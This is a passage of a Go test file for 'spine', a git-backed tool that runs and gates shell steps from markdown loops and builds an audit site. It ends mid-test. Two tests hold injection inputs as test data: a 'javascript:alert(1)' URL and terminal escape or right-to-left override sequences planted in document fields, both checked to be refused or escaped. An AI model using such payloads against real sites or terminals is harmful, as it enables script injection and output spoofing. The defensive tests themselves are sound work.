func TestSiteKeepsTheOldPermalinkOfARenamedLoop(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-OLD\nstatus: active\n---\n\n# Loop Scope: LOOP-OLD\n\n## Stage 1: Go\n\n```sh {name=go}\necho go\n```\n")
	if _, _, code := spine(t, "--repo", dir, "run"); code != 0 {
		t.Fatalf("run: exit %d", code)
	}
	doc := filepath.Join(dir, "loops", "a.md")
	src, _ := os.ReadFile(doc)
	os.WriteFile(doc, []byte(strings.Replace(strings.Replace(string(src), "loop_id: LOOP-OLD", "loop_id: LOOP-NEW", 1), "# Loop Scope: LOOP-OLD", "# Loop Scope: LOOP-NEW", 1)), 0o644)
	gitCmd(t, dir, "commit", "-q", "-am", "rename the loop")
	if out, errs, code := spine(t, "--repo", dir, "site", "build"); code != 0 {
		t.Fatalf("site build: exit %d\n%s%s", code, out, errs)
	}
	old, err := os.ReadFile(filepath.Join(dir, "public", "loops", "LOOP-OLD", "index.html"))
	if err != nil {
		t.Fatalf("no page at the old permalink: %v", err)
	}
	if !strings.Contains(string(old), `href="../../loops/LOOP-NEW/index.html">LOOP-NEW</a>`) {
		t.Errorf("the old permalink does not lead to LOOP-NEW:\n%s", old)
	}
	if _, err := os.Stat(filepath.Join(dir, "public", "loops", "LOOP-NEW", "index.html")); err != nil {
		t.Errorf("no page for LOOP-NEW: %v", err)
	}
}

// TestCapabilityGateIsTheCommittedOne: a capability's gate comes from
// capabilities.yaml as committed: an edit in the working tree that drops
// it (not committed) leaves the step blocked.
func TestCapabilityGateIsTheCommittedOne(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-C\nstatus: active\n---\n\n# Loop Scope: LOOP-C\n\n## Stage 1: Destroy\n\n```sh {name=destroy cap=zfs.destroy}\necho destroyed >> ran.txt\n```\n")
	caps := filepath.Join(dir, "capabilities.yaml")
	os.WriteFile(caps, []byte("capabilities:\n  - name: zfs.destroy\n    safety: destructive\n    approval: manual\n    gate: ALLOW_ZFS\n"), 0o644)
	gitCmd(t, dir, "add", "-A")
	gitCmd(t, dir, "commit", "-q", "-m", "registry")
	os.WriteFile(caps, []byte("capabilities:\n  - name: zfs.destroy\n    safety: read-only\n    approval: auto\n"), 0o644)
	out, _, code := spine(t, "--repo", dir, "run")
	if code != 3 || !strings.Contains(out, "gate ALLOW_ZFS not approved") {
		t.Errorf("run with the gate dropped in the working tree: exit %d, want 3 (blocked)\n%s", code, out)
	}
	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err == nil {
		t.Error("the step ran without its capability's gate")
	}
}

// TestLinkedWorkingTree: in a linked working tree (git worktree add: .git
// is a file) spine keeps its state in that tree's own git folder, runs and
// commits there.
func TestLinkedWorkingTree(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-W\nstatus: active\n---\n\n# Loop Scope: LOOP-W\n\n## Stage 1: Go\n\n```sh {name=go}\necho go\n```\n")
	wt := filepath.Join(t.TempDir(), "wt")
	gitCmd(t, dir, "worktree", "add", "-q", "-b", "side", wt)
	if out, errs, code := spine(t, "--repo", wt, "run"); code != 0 {
		t.Fatalf("run in the linked tree: exit %d\n%s%s", code, out, errs)
	}
	if _, err := os.Stat(filepath.Join(dir, ".git", "worktrees", "wt", "spine", "lock")); err != nil {
		t.Errorf("no state in the linked tree's git folder: %v", err)
	}
	if log := gitCmd(t, wt, "log", "-1", "--format=%B"); !strings.Contains(log, "Spine-Run: ") {
		t.Errorf("the linked tree's branch has no spine commit:\n%s", log)
	}
	if st := gitCmd(t, wt, "status", "--porcelain"); strings.TrimSpace(st) != "" {
		t.Errorf("git status in the linked tree:\n%s", st)
	}
}

// TestLinkedWorkingTreeSharesTheLedger: a destructive step run in the
// main working tree is not run again in a linked working tree of the
// same repository checked out before spine's commit: the host's ledger
// of destructive runs is the main tree's, shared; the step is held,
// naming the run.
func TestLinkedWorkingTreeSharesTheLedger(t *testing.T) {
	count := filepath.Join(t.TempDir(), "count")
	dir := loopRepo(t, "---\nloop_id: LOOP-D\nstatus: active\n---\n\n# Loop Scope: LOOP-D\n\n## Stage 1: Go\n\n```sh {name=wipe destructive=true}\necho wipe >> "+count+"\n```\n")
	if out, errs, code := spine(t, "--repo", dir, "run"); code != 0 {
		t.Fatalf("run: exit %d\n%s%s", code, out, errs)
	}
	wt := filepath.Join(t.TempDir(), "wt")
	gitCmd(t, dir, "worktree", "add", "-q", "-b", "old", wt, "HEAD~1")
	out, errs, code := spine(t, "--repo", wt, "run")
	if data, _ := os.ReadFile(count); string(data) != "wipe\n" {
		t.Fatalf("wipe ran %q, want once (run in the linked tree: exit %d\n%s%s)", data, code, out, errs)
	}
	plan, _, _ := spine(t, "--repo", wt, "plan")
	if !strings.Contains(plan, "this host ran it") {
		t.Errorf("plan in the linked tree does not hold wipe for the host's run:\n%s", plan)
	}
}

// TestRepoFlagFindsTheEnclosingRepository: --repo names a folder inside a
// repository as git -C does (the repository is the one enclosing it), and
// a folder in no repository is refused with exit 2 before anything is
// written there. A .git folder without a HEAD (what an older spine left
// in such a folder) is no repository.
func TestRepoFlagFindsTheEnclosingRepository(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-R\nstatus: active\n---\n\n# Loop Scope: LOOP-R\n\n## Stage 1: A\n\n```sh {name=a}\ntrue\n```\n")
	sub := filepath.Join(dir, "loops")
	if err := os.MkdirAll(filepath.Join(sub, ".git", "spine"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"--repo", sub, "status", "--json"}, {"--repo", sub, "plan", "--json"}} {
		out, errOut, code := spine(t, args...)
		if code != 0 || !strings.Contains(out, "LOOP-R") {
			t.Errorf("spine %v: exit %d, stdout %q, stderr %s; want the enclosing repository's loops", args, code, out, errOut)
		}
	}
	t.Chdir(sub)
	t.Setenv("PWD", sub)
	if out, errOut, code := spine(t, "status", "--json"); code != 0 || !strings.Contains(out, "LOOP-R") {
		t.Errorf("status from inside loops/ (with a stray .git folder): exit %d, %q, %s", code, out, errOut)
	}

	plain := t.TempDir()
	for _, args := range [][]string{{"verify"}, {"lint"}, {"gap", "list"}, {"plan", "--json"}, {"site", "build"}, {"loop", "new", "LOOP-Z", "--objective", "x"}} {
		_, errOut, code := spine(t, append([]string{"--repo", plain}, args...)...)
		if code != 2 || !strings.Contains(errOut, "not inside a git repository") {
			t.Errorf("spine --repo PLAIN %v: exit %d, %s; want 2, not inside a git repository", args, code, errOut)
		}
	}
	if ents, err := os.ReadDir(plain); err != nil || len(ents) != 0 {
		t.Errorf("the folder given as --repo got %v (%v); want nothing written", ents, err)
	}
	bare := filepath.Join(t.TempDir(), "ops.git")
	gitCmd(t, filepath.Dir(bare), "init", "-q", "--bare", bare)
	if _, errOut, code := spine(t, "--repo", bare, "plan"); code != 2 || !strings.Contains(errOut, "is a bare repository: spine works in a clone of it") {
		t.Errorf("spine --repo BARE plan: exit %d, %s; want 2, saying it is bare", code, errOut)
	}
}

// TestUnknownSubcommandIsBadUsage: a word that names no command of a
// command group (a typo in a script) exits 2, naming it, and runs
// nothing; the group alone still prints its help and exits 0.
func TestUnknownSubcommandIsBadUsage(t *testing.T) {
	for _, group := range []string{"site", "gap", "loop", "hook", "pack", "cap", "completion"} {
		_, errOut, code := spine(t, group, "bogus")
		if code != 2 || !strings.Contains(errOut, `unknown command "bogus"`) {
			t.Errorf("spine %s bogus: exit %d, %q; want 2, naming the word", group, code, errOut)
		}
		out, _, code := spine(t, group)
		if code != 0 || !strings.Contains(out, "Available Commands") {
			t.Errorf("spine %s: exit %d, %q; want its help, exit 0", group, code, out)
		}
	}
}

// TestUnknownHelpTopicIsBadUsage: spine help WORD exits 2 when WORD
// names no command (cobra printed the usage and exited 0); help of a real
// command, or of none, still prints it and exits 0.
func TestUnknownHelpTopicIsBadUsage(t *testing.T) {
	for _, args := range [][]string{{"help", "bogus"}, {"help", "site", "bogus"}, {"help", "gap", "bogus", "more"}} {
		out, errOut, code := spine(t, args...)
		if code != 2 || !strings.Contains(errOut, "unknown help topic") || out != "" {
			t.Errorf("spine %v: exit %d, out %q, err %q; want 2, unknown help topic, nothing on stdout", args, code, out, errOut)
		}
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"help"}, "Available Commands"},
		{[]string{"help", "run"}, "spine run"},
		{[]string{"help", "site", "build"}, "spine site build"},
	} {
		out, errOut, code := spine(t, c.args...)
		if code != 0 || !strings.Contains(out, c.want) {
			t.Errorf("spine %v: exit %d, out %q, err %q; want 0 and %q", c.args, code, out, errOut, c.want)
		}
	}
}

// TestRetriedArtifactStillVerifies: a step that failed and is run again
// with --retry rewrites its artifact; spine verify still passes (the first
// run's file is in git's history), and the site shows the first receipt's
// artifact as rewritten by the second run, not as a hash mismatch.
func TestRetriedArtifactStillVerifies(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-R\nstatus: active\n---\n\n# Loop Scope: LOOP-R\n\n## Stage 1: A\n\n```sh {name=dump artifact=dump.txt}\necho \"try $SPINE_RUN_KEY\"\ntest -f ok\n```\n")
	if _, errOut, code := spine(t, "--repo", dir, "run"); code != 1 {
		t.Fatalf("first run: exit %d, %s; want 1 (the step fails)", code, errOut)
	}
	first, err := os.ReadFile(filepath.Join(dir, "artifacts", "loop-r", "dump.txt"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "ok"), nil, 0o644)
	if out, errOut, code := spine(t, "--repo", dir, "run", "--retry", "dump"); code != 0 {
		t.Fatalf("retry: exit %d, %s %s", code, out, errOut)
	}
	second, _ := os.ReadFile(filepath.Join(dir, "artifacts", "loop-r", "dump.txt"))
	if bytes.Equal(first, second) {
		t.Fatalf("the retry left the artifact as it was (%q): the test proves nothing", first)
	}
	if out, errOut, code := spine(t, "--repo", dir, "verify"); code != 0 {
		t.Errorf("verify after a retry: exit %d, %s %s; want 0", code, out, errOut)
	}
	firstKey := strings.Fields(strings.TrimPrefix(string(first), "try "))[0]
	secondKey := strings.Fields(strings.TrimPrefix(string(second), "try "))[0]
	out := filepath.Join(t.TempDir(), "public")
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
		t.Fatalf("site build: exit %d, %s", code, errOut)
	}
	page, err := os.ReadFile(filepath.Join(out, "receipts", firstKey, "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(page, []byte("rewritten by a later run")) || !bytes.Contains(page, []byte(secondKey)) || bytes.Contains(page, []byte("hashes to")) {
		t.Errorf("the first run's page does not say its artifact was rewritten by %s:\n%s", secondKey, page)
	}
	if _, err := os.Stat(filepath.Join(out, "receipts", firstKey, "artifacts", "dump.txt")); err == nil {
		t.Error("the first run's page carries the second run's file as its artifact")
	}
	if got, err := os.ReadFile(filepath.Join(out, "receipts", secondKey, "artifacts", "dump.txt")); err != nil || !bytes.Equal(got, second) {
		t.Errorf("the second run's artifact in the site: %q, %v; want %q", got, err, second)
	}
	page2, _ := os.ReadFile(filepath.Join(out, "receipts", secondKey, "index.html"))
	if bytes.Contains(page2, []byte("rewritten by a later run")) || !bytes.Contains(page2, []byte(`class="ok">ok<`)) {
		t.Errorf("the second run's page does not show its artifact as ok:\n%s", page2)
	}
}

// TestStatusOfALoopOfManySteps: the states of a loop with more steps
// than the status's step lookup scans (it indexes them) are each its own:
// the steps run are done, the one that failed failed, the rest wait.
func TestStatusOfALoopOfManySteps(t *testing.T) {
	var b strings.Builder
	b.WriteString("---\nloop_id: LOOP-M\nstatus: active\n---\n\n# Loop Scope: LOOP-M\n\n## Stage 1: Many\n\n")
	for i := range 100 {
		cmd := "true"
		if i == 80 {
			cmd = "false"
		}
		fmt.Fprintf(&b, "```sh {name=s%02d}\n%s\n```\n\n", i, cmd)
	}
	dir := loopRepo(t, b.String())
	if _, errOut, code := spine(t, "--repo", dir, "run"); code != 1 {
		t.Fatalf("run: exit %d, want 1 (s80 fails)\n%s", code, errOut)
	}
	out, errOut, code := spine(t, "--repo", dir, "status", "LOOP-M", "--json")
	if code != 0 && code != 3 {
		t.Fatalf("status: exit %d\n%s", code, errOut)
	}
	var st []struct {
		Stages []struct {
			Steps []struct{ Name, State string }
		}
	}
	if err := json.Unmarshal([]byte(out), &st); err != nil || len(st) != 1 || len(st[0].Stages) != 1 {
		t.Fatalf("status --json: %v\n%s", err, out)
	}
	for i, s := range st[0].Stages[0].Steps {
		want := "done"
		switch {
		case i == 80:
			want = "failed"
		case i > 80:
			want = "waiting" // behind the failed step
		}
		if s.Name != fmt.Sprintf("s%02d", i) || s.State != want {
			t.Errorf("step %d: %s %s, want s%02d %s", i, s.Name, s.State, i, want)
		}
	}
}

// TestBaseURLMustBeHTTP: --base-url starts every link of the Atom feed,
// so one that is not an http(s) URL (javascript:) is refused, exit 2, by
// site build and site serve, before anything is written.
func TestBaseURLMustBeHTTP(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-B\nstatus: active\n---\n\n# Loop Scope: LOOP-B\n")
	out := filepath.Join(t.TempDir(), "public")
	for _, cmd := range []string{"build", "serve"} {
		_, errOut, code := spine(t, "--repo", dir, "site", cmd, "--out", out, "--base-url", "javascript:alert(1)//")
		if code != 2 || !strings.Contains(errOut, "want an http:// or https:// URL") {
			t.Errorf("site %s --base-url javascript:...: exit %d, %q; want 2, refused", cmd, code, errOut)
		}
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("the refused build wrote its output folder")
	}
}

// TestDryRunSaysWhatWouldRun: spine run --dry-run names each step it
// would run and ends by counting them, not with "nothing to do"; it
// writes nothing.
func TestDryRunSaysWhatWouldRun(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-D\nstatus: active\n---\n\n# Loop Scope: LOOP-D\n\n## Stage 1: A\n\n```sh {name=a}\ntrue\n```\n\n```sh {name=b}\ntrue\n```\n")
	head := gitCmd(t, dir, "rev-parse", "HEAD")
	out, errOut, code := spine(t, "--repo", dir, "run", "--dry-run")
	if code != 0 || !strings.Contains(out+errOut, "would run LOOP-D/a") || !strings.Contains(out, "dry run: 2 step(s) would run; nothing was run or written") || strings.Contains(out, "nothing to do") {
		t.Errorf("run --dry-run: exit %d\n%s%s", code, out, errOut)
	}
	if got := gitCmd(t, dir, "rev-parse", "HEAD"); got != head {
		t.Errorf("a dry run committed: HEAD %s, was %s", got, head)
	}
}

// TestBlockedCalloutSaysWhyTheApprovalIsRefused: a gate listed in
// approvals: by someone who is not an approver leaves the step blocked,
// and the loop page's callout gives the planner's reason, not a guess at
// one that sends the reader to a receipt older than the approval.
func TestBlockedCalloutSaysWhyTheApprovalIsRefused(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-G\nstatus: active\n---\n\n# Loop Scope: LOOP-G\n\n## Stage 1: Do\n\n```sh {name=danger gate=ALLOW_X destructive=true}\necho ran >> ran.txt\n```\n")
	os.WriteFile(filepath.Join(dir, "spine.yaml"), []byte("policy:\n  approvers: [dana@example.com]\n"), 0o644)
	gitCmd(t, dir, "add", "-A")
	gitCmd(t, dir, "commit", "-q", "-m", "policy")
	if _, _, code := spine(t, "--repo", dir, "run"); code != 3 {
		t.Fatalf("run: exit %d, want 3 (blocked)", code)
	}
	doc := filepath.Join(dir, "loops", "a.md")
	src, _ := os.ReadFile(doc)
	os.WriteFile(doc, []byte(strings.Replace(string(src), "status: active\n", "status: active\napprovals: [ALLOW_X]\n", 1)), 0o644)
	cmd := exec.Command("git", "commit", "-q", "-am", "approve")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=Mira", "GIT_AUTHOR_EMAIL=mira@example.com", "GIT_COMMITTER_NAME=Mira", "GIT_COMMITTER_EMAIL=mira@example.com")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git commit: %v %s", err, out)
	}
	if out, errs, code := spine(t, "--repo", dir, "site", "build"); code != 0 {
		t.Fatalf("site build: exit %d\n%s%s", code, out, errs)
	}
	page, err := os.ReadFile(filepath.Join(dir, "public", "loops", "LOOP-G", "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(page), "lists it, but spine does not take that approval: gate ALLOW_X: approval commit ") ||
		!strings.Contains(string(page), "is by Mira &lt;mira@example.com&gt;, who is not in policy.approvers.") {
		t.Errorf("the callout does not say why the approval is refused:\n%s", page)
	}
	if strings.Contains(string(page), "Held for an operator") {
		t.Error("a blocked step is also called out as held")
	}
	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err == nil {
		t.Error("the gated step ran")
	}
}

// TestArtifactListedAgainIsCopiedOnce: a receipt edited to list its
// artifact many times (spine writes no such receipt) gets one copy of it
// in the site, every row linking there, and verify still names an entry
// whose hash differs; neither hashes it once per entry (a thousand
// entries of a 4 MiB artifact wrote 4 GB of pages).
func TestArtifactListedAgainIsCopiedOnce(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-R\nstatus: active\n---\n\n# Loop Scope: LOOP-R\n\n## Stage 1: A\n\n```sh {name=dump artifact=dump.txt}\necho dumped\n```\n")
	if _, errOut, code := spine(t, "--repo", dir, "run"); code != 0 {
		t.Fatalf("run: exit %d, %s", code, errOut)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*", "*", "receipt.json"))
	if len(files) != 1 {
		t.Fatalf("receipts: %v", files)
	}
	var rc map[string]any
	src, _ := os.ReadFile(files[0])
	if err := json.Unmarshal(src, &rc); err != nil {
		t.Fatal(err)
	}
	arts := rc["artifacts"].([]any)
	for i := range 49 {
		a := maps.Clone(arts[0].(map[string]any))
		if i%2 == 1 {
			// The same file spelled otherwise.
			a["path"] = strings.Replace(a["path"].(string), "loop-r/", "loop-r/."+strings.Repeat("/.", i%5)+"//", 1)
		}
		arts = append(arts, a)
	}
	rc["artifacts"] = arts
	edited, _ := json.Marshal(rc)
	os.WriteFile(files[0], edited, 0o644)
	out := filepath.Join(t.TempDir(), "public")
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
		t.Fatalf("site build: exit %d, %s", code, errOut)
	}
	key := filepath.Base(filepath.Dir(files[0]))
	copies, _ := os.ReadDir(filepath.Join(out, "receipts", key, "artifacts"))
	if len(copies) != 1 {
		var names []string
		for _, c := range copies {
			names = append(names, c.Name())
		}
		t.Errorf("copies of the artifact in the site: %v, want one", names)
	}
	page, _ := os.ReadFile(filepath.Join(out, "receipts", key, "index.html"))
	if n := strings.Count(string(page), `href="artifacts/dump.txt"`); n != 50 {
		t.Errorf("%d rows link to the copy, want 50", n)
	}
	// One entry of the fifty says another hash: verify names it.
	arts[7] = map[string]any{"path": "artifacts/loop-r/dump.txt", "sha256": strings.Repeat("0", 64), "size": 7}
	edited, _ = json.Marshal(rc)
	os.WriteFile(files[0], edited, 0o644)
	if outv, _, code := spine(t, "--repo", dir, "verify"); code != 1 || !strings.Contains(outv, "artifact hashes to") {
		t.Errorf("verify of an entry listed again with another hash: exit %d\n%s", code, outv)
	}
}

// TestSecondRunWaitsForTheLockAfterOwnCommit: while a run works on a
// later stage, HEAD is its own commit of the first; a second run started
// then waits --wait for the lock and exits 75 naming the holder, instead
// of saying there is nothing to do (exit 0); watch --once says so too.
func TestSecondRunWaitsForTheLockAfterOwnCommit(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-L\nstatus: active\n---\n\n# Loop Scope: LOOP-L\n\n## Stage 0: Quick\n\n```sh {name=quick}\ntrue\n```\n\n## Stage 1: Slow\n\n```sh {name=slow}\nwhile test ! -f release; do sleep 0.05; done\n```\n")
	first := exec.Command(spineBin, "--repo", dir, "run")
	if err := first.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		os.WriteFile(filepath.Join(dir, "release"), nil, 0o644)
		if err := first.Wait(); err != nil {
			t.Errorf("first run: %v", err)
		}
	}()
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(gitCmd(t, dir, "log", "-1", "--format=%B"), "Spine-Run:") {
		if time.Now().After(deadline) {
			t.Fatal("the first run did not commit its first stage")
		}
		time.Sleep(20 * time.Millisecond)
	}
	out, errOut, code := spine(t, "--repo", dir, "run", "--wait", "200ms")
	if code != exitLocked || !strings.Contains(errOut, fmt.Sprintf("(pid %d) holds the lock", first.Process.Pid)) {
		t.Errorf("second run: exit %d, want %d naming pid %d\n%s%s", code, exitLocked, first.Process.Pid, out, errOut)
	}
	out, _, code = spine(t, "--repo", dir, "watch", "--once")
	if code != 0 || !strings.Contains(out, fmt.Sprintf("another spine run (pid %d) holds the repository's lock", first.Process.Pid)) {
		t.Errorf("watch --once: exit %d\n%s", code, out)
	}
	// A dry run says so too, rather than that nothing is pending.
	out, errOut, code = spine(t, "--repo", dir, "run", "--dry-run")
	if code != 0 || !strings.Contains(out, fmt.Sprintf("another run (pid %d) holds the repository's lock", first.Process.Pid)) || strings.Contains(out, "nothing to do") {
		t.Errorf("run --dry-run: exit %d\n%s%s", code, out, errOut)
	}
}

// TestResolvedVerdictIsNoRun: a step settled with spine resolve shows on
// the site as a verdict, not as a run of its command: marked in the
// loop's runs and the timeline, without an exit status or duration of
// its own, and its receipt page says nothing ran.
func TestResolvedVerdictIsNoRun(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-V\nstatus: active\n---\n\n# Loop Scope: LOOP-V\n\n## Stage 1: A\n\n```sh {name=check}\nexit 4\n```\n")
	if _, _, code := spine(t, "--repo", dir, "run"); code != 1 {
		t.Fatalf("run: exit %d, want 1", code)
	}
	if out, errOut, code := spine(t, "--repo", dir, "resolve", "check", "--as", "pass", "--note", "checked by hand"); code != 0 {
		t.Fatalf("resolve: exit %d\n%s%s", code, out, errOut)
	}
	out := filepath.Join(t.TempDir(), "public")
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
		t.Fatalf("site build: exit %d, %s", code, errOut)
	}
	pages := sitePages(t, out)
	loop := pages["loops/LOOP-V/index.html"]
	if strings.Count(loop, "resolved: nothing ran") != 1 {
		t.Errorf("the loop's runs do not mark the one verdict:\n%s", loop)
	}
	var verdict string
	timelines := 0
	for name, page := range pages {
		if strings.HasPrefix(name, "receipts/") && strings.Contains(page, "checked by hand") {
			verdict = page
		}
		if strings.HasPrefix(name, "timeline/") {
			timelines++
			if strings.Count(page, "resolved: nothing ran") != 1 {
				t.Errorf("%s does not mark the verdict once", name)
			}
		}
	}
	if timelines == 0 {
		t.Error("no timeline page")
	}
	if !strings.Contains(verdict, "<b>Nothing ran.</b>") || !strings.Contains(verdict, "<h2>Command (not run)</h2>") {
		t.Errorf("the verdict's receipt page reads as a run:\n%s", verdict)
	}
}

// TestInitWorkflowFollowsTheBranch: the workflow spine init writes runs on
// pushes to the branch checked out, and passes the steps' secrets from a
// repository secret it names (secrets: inherit could never fill the
// reusable workflow's step-env: a secret's name holds no hyphen).
func TestInitWorkflowFollowsTheBranch(t *testing.T) {
	dir := gitRepo(t)
	gitCmd(t, dir, "checkout", "-q", "-b", "feat/#1'a\"b{c},d")
	if out, errOut, code := spine(t, "--repo", dir, "init"); code != 0 {
		t.Fatalf("init: exit %d\n%s%s", code, out, errOut)
	}
	wf, err := os.ReadFile(filepath.Join(dir, ".github", "workflows", "spine.yml"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"    branches: [\"feat/#1'a\\\"b{c},d\"]\n", "      step-env: ${{ secrets.SPINE_STEP_ENV }}\n"} {
		if !strings.Contains(string(wf), want) {
			t.Errorf("workflow without %q:\n%s", want, wf)
		}
	}
	var parsed struct {
		On struct {
			Push struct {
				Branches []string `yaml:"branches"`
			} `yaml:"push"`
		} `yaml:"on"`
	}
	if err := yaml.Unmarshal(wf, &parsed); err != nil || len(parsed.On.Push.Branches) != 1 || parsed.On.Push.Branches[0] != "feat/#1'a\"b{c},d" {
		t.Errorf("the workflow's branches read as %q (%v)", parsed.On.Push.Branches, err)
	}
	if strings.Contains(string(wf), "inherit") || strings.Contains(string(wf), "{{BRANCH}}") {
		t.Errorf("workflow:\n%s", wf)
	}
}

// epipeWriter is standard output whose reader went away.
type epipeWriter struct{}

func (epipeWriter) Write([]byte) (int, error) { return 0, syscall.EPIPE }

// TestBrokenPipeIsQuiet: a listing whose reader went away (spine gap list
// | head) ends quietly with 141, as a process SIGPIPE killed, not with a
// usage error.
func TestBrokenPipeIsQuiet(t *testing.T) {
	dir := gitRepo(t)
	os.WriteFile(filepath.Join(dir, "gaps.yaml"), []byte("gaps:\n  - {id: GAP-OP-1, title: t, status: open}\n"), 0o644)
	var errb bytes.Buffer
	if code := run([]string{"--repo", dir, "gap", "list"}, epipeWriter{}, &errb); code != exitBrokenPipe || errb.Len() != 0 {
		t.Errorf("gap list into a closed pipe: exit %d, stderr %q; want %d and nothing", code, errb.String(), exitBrokenPipe)
	}
}

// TestIndexSaysAChainIsBroken: a receipt changed after it was committed
// breaks its loop's chain, and the loops index says so on the loop's row
// (the auditor's first question), not only its loop page.
func TestIndexSaysAChainIsBroken(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-C\nstatus: active\n---\n\n# Loop Scope: LOOP-C\n\n## Stage 1: A\n\n```sh {name=one}\necho one\n```\n\n```sh {name=two}\necho two\n```\n\n```sh {name=three}\necho three\n```\n")
	if _, errOut, code := spine(t, "--repo", dir, "run"); code != 0 {
		t.Fatalf("run: exit %d, %s", code, errOut)
	}
	out := filepath.Join(t.TempDir(), "public")
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
		t.Fatalf("site build: exit %d, %s", code, errOut)
	}
	if index, _ := os.ReadFile(filepath.Join(out, "index.html")); strings.Contains(string(index), "chain broken") {
		t.Fatalf("an intact chain is called broken:\n%s", index)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*", "*step.two*", "receipt.json"))
	if len(files) != 1 {
		t.Fatalf("receipts of two: %v", files)
	}
	src, _ := os.ReadFile(files[0])
	os.WriteFile(files[0], bytes.Replace(src, []byte(`"status": "pass"`), []byte(`"status": "fail"`), 1), 0o644)
	gitCmd(t, dir, "commit", "-q", "-am", "edit a receipt")
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
		t.Fatalf("site build: exit %d, %s", code, errOut)
	}
	index, _ := os.ReadFile(filepath.Join(out, "index.html"))
	if !strings.Contains(string(index), `<div class="sub bad">chain broken at 1 run</div>`) {
		t.Errorf("the index does not say LOOP-C's chain is broken:\n%s", index)
	}
}

// TestDocumentTextIsSafeOnTheTerminal: what a document says reaches the
// terminal with its control characters (an escape sequence that sets the
// window title, a right-to-left override) shown, not obeyed: in lint's
// findings and in run's and watch's lines about a loop they skip.
func TestDocumentTextIsSafeOnTheTerminal(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-T\nstatus: active\napprovals: [\"G\\e]0;PWNED\\a\", \"G\u202eX\"]\n---\n\n# Loop Scope: LOOP-T\n\n## Stage 0: one\n\n```sh {name=ab after=\x1b]0;TITLE\x07zz}\necho hi\n```\n")
	for _, args := range [][]string{{"lint"}, {"run"}, {"run", "--dry-run"}, {"watch", "--once"}, {"plan"}, {"status"}} {
		out, errOut, _ := spine(t, append([]string{"--repo", dir}, args...)...)
		all := out + errOut
		if strings.ContainsAny(all, "\x1b\x07\u202e") {
			t.Errorf("spine %v printed a control character raw:\n%q", args, all)
		}
		if args[0] == "lint" && (!strings.Contains(all, `^[]0;TITLE^Gzz`) || !strings.Contains(all, `\u202e`)) {
			t.Errorf("spine lint does not show the characters escaped:\n%s", all)
		}
	}
}

// TestUnreadableHeartbeatIsStaleEverywhere: an active loop whose
// last_heartbeat_utc spine cannot read is stale for status --stale, in
// status --json and on the site's index, and lint says why.
func TestUnreadableHeartbeatIsStaleEverywhere(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-H\nstatus: active\nheartbeat_ttl_minutes: 60\nlast_heartbeat_utc: \"yesterday\"\n---\n\n# Loop Scope: LOOP-H\n")
	if _, _, code := spine(t, "--repo", dir, "status", "--stale"); code != 1 {
		t.Errorf("status --stale: exit %d, want 1", code)
	}
	if js, _, _ := spine(t, "--repo", dir, "status", "--json"); !strings.Contains(js, `"heartbeat_stale": true`) {
		t.Errorf("status --json:\n%s", js)
	}
	if out, _, _ := spine(t, "--repo", dir, "lint"); !strings.Contains(out, `loops/a.md:5: warning: frontmatter: last_heartbeat_utc "yesterday" is not an RFC 3339 time`) {
		t.Errorf("lint:\n%s", out)
	}
	out := filepath.Join(t.TempDir(), "site")
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
		t.Fatalf("site build: exit %d\n%s", code, errOut)
	}
	index, _ := os.ReadFile(filepath.Join(out, "index.html"))
	if !strings.Contains(string(index), `<span class="hb hb-stale" title="last_heartbeat_utc &#34;yesterday&#34; is not a time spine reads">?</span>`) {
		t.Errorf("the index's heartbeat cell:\n%s", regexp.MustCompile(`<span class="hb[^<]*</span>`).FindString(string(index)))
	}
}

// TestVerifyNamesALinkedReceiptFolder: a day folder of receipts committed
// as a symbolic link hides the receipts behind it from every reader
// (spine follows no link): verify says so, and names each run the
// evidence blocks record as missing, instead of passing.
func TestVerifyNamesALinkedReceiptFolder(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	if out, errs, code := spine(t, "demo", "--dir", dir); code != 0 {
		t.Fatalf("demo: exit %d\n%s%s", code, out, errs)
	}
	if out, _, code := spine(t, "--repo", dir, "verify"); code != 0 {
		t.Fatalf("verify of the demo: exit %d\n%s", code, out)
	}
	days, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*"))
	if len(days) == 0 {
		t.Fatal("no day folder in the demo")
	}
	day := days[0]
